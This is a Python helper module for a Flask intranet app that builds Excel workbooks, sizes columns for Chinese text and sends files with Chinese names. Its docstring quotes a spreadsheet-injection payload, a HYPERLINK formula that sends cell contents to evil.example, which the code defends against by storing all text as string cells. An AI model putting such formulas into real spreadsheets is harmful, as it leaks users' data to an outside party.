"""Workbooks and other files that leave the intranet: text stays text, columns fit Chinese, and
the download carries a Chinese name that every browser decodes.

Excel runs a cell that starts with "=" as a formula, and openpyxl stores any such string as one:
a theme typed as =HYPERLINK("http://evil.example/?"&A1,"点我") would turn the 一览表 into a link
that sends the sheet's contents away (OWASP "CSV injection", SECURITY.md M). Every writer adds
its rows through `append`, which marks each piece of text as a string cell, so it is shown
exactly as typed and never calculated. Writers build the workbook; `download` sends it.
"""

import io
import unicodedata

from flask import send_file
from openpyxl.cell import WriteOnlyCell
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MIN_WIDTH, MAX_WIDTH = 6, 60


def append(sheet, values) -> None:
    """Add a row to a worksheet (normal or write-only); text is stored as text, never a formula."""
    if isinstance(sheet, WriteOnlyWorksheet):
        sheet.append(
            [None if value is None else _text_cell(WriteOnlyCell(sheet, value)) for value in values]
        )
        return
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        _text_cell(cell)


def _text_cell(cell):
    if isinstance(cell.value, str):
        cell.data_type = "s"  # openpyxl made "=…" a formula ("f"); a string cell shows it as typed
    return cell


def display_width(text: str) -> int:
    """Columns as Excel counts them: a Chinese character is about two units wide."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def fit_columns(sheet, skip_rows: int = 0) -> None:
    """Widen each column of a normal worksheet to its longest line, within sensible bounds;
    `skip_rows` leaves out a title row that spans the sheet."""
    widths: dict[int, int] = {}
    for row in sheet.iter_rows(min_row=skip_rows + 1):
        for cell in row:
            if cell.value is None:
                continue
            longest = max(display_width(line) for line in str(cell.value).splitlines() or [""])
            widths[cell.column] = max(widths.get(cell.column, 0), longest)
    for column, width in widths.items():
        sheet.column_dimensions[get_column_letter(column)].width = min(
            MAX_WIDTH, max(MIN_WIDTH, width + 2)
        )


def header_widths(sheet, headers: list[str], wide: int = 14) -> None:
    """Column widths for a write-only sheet, set before its first row: its rows are streamed, so
    the header and a usual width for its values are all there is to go by."""
    for index, header in enumerate(headers, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = max(
            display_width(header) + 2, wide
        )


def new_sheet(book, title: str, headers: list[str]):
    """A write-only sheet with its widths set and its header row written."""
    sheet = book.create_sheet(title)
    header_widths(sheet, headers)
    append(sheet, headers)
    return sheet


def workbook_bytes(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def download(data: bytes, name: str, mimetype: str = XLSX):
    """The file as an attachment named `name`; Flask's send_file writes the Content-Disposition
    (an ASCII fallback and the RFC 5987 filename* that carries the Chinese name)."""
    response = send_file(
        io.BytesIO(data), mimetype=mimetype, as_attachment=True, download_name=name
    )
    response.headers["Cache-Control"] = "private, no-store"  # rosters and scores are personal
    return response


def attachment_header(name: str) -> str:
    """The Content-Disposition send_file would write for `name`, for a response that is streamed
    and so cannot go through send_file itself."""
    return download(b"", name).headers["Content-Disposition"]
